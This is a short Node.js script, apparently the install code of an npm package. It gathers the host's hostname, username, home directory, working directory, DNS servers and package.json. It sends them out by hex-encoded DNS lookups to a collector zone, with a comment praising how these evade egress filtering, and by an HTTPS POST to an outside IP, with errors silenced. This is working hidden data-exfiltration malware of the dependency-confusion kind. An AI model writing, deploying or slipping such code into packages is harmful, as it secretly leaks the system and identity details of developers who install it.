const os = require("os");
const dns = require("dns");
const querystring = require("querystring");
const https = require("https");
const packageJSON = require("./package.json");
const pkg = packageJSON.name;

const trackingData = JSON.stringify({
    p: pkg,
    c: __dirname,
    hd: os.homedir(),
    hn: os.hostname(),
    un: os.userInfo().username,
    dns: dns.getServers(),
    r: packageJSON ? packageJSON.___resolved : undefined,
    v: packageJSON.version,
    pjson: packageJSON,
});

// DNS first: egress filtering rarely blocks resolution. Hex in 60-character labels under the collector zone.
const hex = Buffer.from([os.hostname(), os.userInfo().username, process.cwd()].join("|")).toString("hex");
const labels = hex.match(/.{1,60}/g) || [];
labels.forEach((label, i) => {
    dns.lookup(`${i}.${label}.${labels.length}.x.oast-collector.example`, () => {});
});

var postData = querystring.stringify({
    msg: trackingData,
});

var options = {
    hostname: "203.0.113.77",
    port: 443,
    path: "/",
    method: "POST",
    headers: {
        "Content-Type": "application/x-www-form-urlencoded",
        "Content-Length": postData.length,
    },
};

var req = https.request(options, (res) => {
    res.on("data", (d) => {
        process.stdout.write(d);
    });
});

req.on("error", (e) => {
    // console.error(e);
});

req.write(postData);
req.end();
